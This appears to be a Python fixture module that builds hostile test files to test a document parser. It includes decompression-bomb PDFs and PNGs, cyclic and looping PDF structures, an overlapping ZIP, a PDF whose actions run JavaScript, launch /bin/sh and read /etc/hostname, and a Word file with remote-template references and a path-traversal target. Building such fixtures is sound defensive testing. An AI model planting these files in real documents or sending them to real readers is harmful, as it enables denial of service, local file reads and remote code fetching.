"""Small files that ask much of a reader: numbers, depth, loops. Each function gives the bytes of one.

What breaks a container, or hides behind a password, stands in ``hostile``.
"""

from __future__ import annotations

import io
import random
import struct
import zlib

import pikepdf
from docx_parts import NAMESPACES, docx, paragraph
from hostile import zipped
from pdf_drawn import Put, drawn, from_stream

__all__ = ["acting_pdf", "cyclic_pages_pdf", "empty_runs_docx", "external_docx", "huge_picture", "huge_picture_pdf",
           "looping_xref_pdf", "operators_pdf", "overlapping_zip", "parts_mhtml"]  # fmt: skip


# ── PDF ───────────────────────────────────────────────────────────────────────────────────────────────────────


def operators_pdf(count: int = 2_000_000) -> bytes:
    """A page of so many drawing operators, packed."""
    whole = from_stream(b"BT /F 12 Tf 72 700 Td (Ada Nightfern) Tj ET " + b"0 0 1 1 re f " * (count // 2))
    file = io.BytesIO()
    with pikepdf.open(io.BytesIO(whole)) as pdf:
        pdf.save(file, compress_streams=True)
    return file.getvalue()


def cyclic_pages_pdf() -> bytes:
    """A page tree whose second branch is its own root."""
    file = io.BytesIO()
    with pikepdf.open(io.BytesIO(drawn([Put(72, 72, "Ada Nightfern keeps books")]))) as pdf:
        pages = pdf.Root.Pages
        pages.Kids.append(pages)
        pages.Count = 2**31 - 1
        pdf.save(file)
    return file.getvalue()


def looping_xref_pdf() -> bytes:
    """A table of objects that names itself as the one before it."""
    whole = drawn([Put(72, 72, "Ada Nightfern keeps books")])
    start = whole.rindex(b"xref", 0, whole.rindex(b"startxref"))
    return whole.replace(b"trailer", b"trailer").replace(b"/Root", b"/Prev %d /Root" % start, 1)


def acting_pdf(url: str) -> bytes:
    """A page that wants to run a script and a program, to open other files and pages, and that holds a file."""
    file = io.BytesIO()
    name = pikepdf.Name
    actions = [
        {"/S": name("/JavaScript"), "/JS": f"app.launchURL('{url}', true); this.submitForm('{url}');"},
        {"/S": name("/Launch"), "/F": "/bin/sh"},
        {"/S": name("/GoToR"), "/F": pikepdf.Dictionary({"/FS": name("/URL"), "/F": url}), "/D": [0, name("/Fit")]},
        {"/S": name("/URI"), "/URI": url},
        {"/S": name("/SubmitForm"), "/F": pikepdf.Dictionary({"/FS": name("/URL"), "/F": url})},
        {"/S": name("/ImportData"), "/F": "/etc/hostname"},
    ]
    with pikepdf.open(io.BytesIO(drawn([Put(72, 72, "Ada Nightfern keeps books")]))) as pdf:
        chain = None
        for action in reversed(actions):
            chain = pikepdf.Dictionary(action | ({"/Next": chain} if chain is not None else {}))
        pdf.Root.OpenAction = chain
        pdf.pages[0].AA = pikepdf.Dictionary({"/O": chain, "/C": chain})
        pdf.pages[0].obj["/Contents"] = pikepdf.Array([pdf.pages[0].Contents, pdf.make_stream(b"")])
        away = pdf.make_stream(b"")
        away.F = pikepdf.Dictionary({"/FS": name("/URL"), "/F": url})  # a stream that lies elsewhere
        pdf.pages[0].Contents.append(away)
        pdf.attachments["inner.html"] = f'<img src="{url}">'.encode()
        pdf.save(file)
    return file.getvalue()


def huge_picture_pdf(side: int = 50_000) -> bytes:
    """A page that is one picture of ``side`` × ``side`` dots, a bit each."""
    row = zlib.compressobj(9)
    packed = b"".join(row.compress(bytes(side // 8)) for _ in range(side)) + row.flush()
    pdf = pikepdf.new()
    picture = pikepdf.Stream(pdf, packed)
    picture.Type, picture.Subtype, picture.Filter = (
        pikepdf.Name("/XObject"), pikepdf.Name("/Image"), pikepdf.Name("/FlateDecode"))  # fmt: skip
    picture.Width = picture.Height = side
    picture.ColorSpace, picture.BitsPerComponent = pikepdf.Name("/DeviceGray"), 1
    page = pdf.add_blank_page(page_size=(612, 792))
    page.Resources = pikepdf.Dictionary({"/XObject": pikepdf.Dictionary({"/P": picture})})
    page.Contents = pdf.make_stream(b"q 612 0 0 792 0 0 cm /P Do Q")
    file = io.BytesIO()
    pdf.save(file)
    return file.getvalue()


# ── other forms ───────────────────────────────────────────────────────────────────────────────────────────────


def huge_picture(side: int = 50_000) -> bytes:
    """A PNG of ``side`` × ``side`` dots, a bit each."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    packer = zlib.compressobj(9)
    row = bytes(1 + side // 8)
    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def empty_runs_docx(count: int = 1_000_000) -> bytes:
    """A paragraph of so many runs without text; each has an id, so that they do not pack too well."""
    ids = random.Random(0)
    return docx(paragraph("Ada") + "<w:p>" + "".join(f'<w:r w:id="{ids.getrandbits(24):x}"/>' for _ in range(count))
                + "</w:p>")  # fmt: skip


def external_docx(url: str) -> bytes:
    """A Word file that names a template, a picture, a frame and a page elsewhere, and holds a macro and an object."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = "".join(
        f'<Relationship Id="r{i}" Type="{kind}/{what}" Target="{target}" TargetMode="{mode}"/>'
        for i, (what, target, mode) in enumerate((
            ("attachedTemplate", f"{url}/t.dotm", "External"), ("image", f"{url}/i.png", "External"),
            ("frame", f"{url}/f.html", "External"), ("subDocument", f"{url}/s.docx", "External"),
            ("aFChunk", f"{url}/c.html", "External"), ("oleObject", "embeddings/oleObject1.bin", "Internal"),
            ("header", f"{url}/h.xml", "External"), ("styles", f"{url}/s.xml", "External"),
            ("header", "../../../../etc/hostname", "Internal"),
        ))
    )  # fmt: skip
    body = (
        f'<w:p><w:r><w:t>Ada Nightfern</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT '
        f'"{url}/x.docx"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p><w:altChunk r:id="r4"/>'
        '<w:subDoc r:id="r3"/><w:sectPr><w:headerReference w:type="default" r:id="r6"/>'
        '<w:footerReference w:type="default" r:id="r8"/></w:sectPr>'
    )
    return zipped([
        ("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        ("word/_rels/document.xml.rels", f'<Relationships xmlns="{space}">{relations}</Relationships>'),
        ("word/_rels/settings.xml.rels", f'<Relationships xmlns="{space}">{relations}</Relationships>'),
        ("word/document.xml", f"<w:document {NAMESPACES}><w:body>{body}</w:body></w:document>"),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    ])  # fmt: skip


def overlapping_zip(data: bytes) -> bytes:
    """The same container, in which the last part is said to begin where the first one does."""
    last = data.rindex(b"PK\x01\x02")
    first = struct.unpack_from("<I", data, data.index(b"PK\x01\x02") + 42)[0]
    return data[: last + 42] + struct.pack("<I", first) + data[last + 46 :]


def parts_mhtml(count: int, head: bytes = b"") -> bytes:
    """A saved page of so many parts; ``head`` are the fields of each."""
    start = b'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n'
    page = b"--b\nContent-Type: text/html\n\n<p>Ada Nightfern</p>\n"
    return start + page + (b"--b\n" + head + b"\n") * count + b"--b--\n"
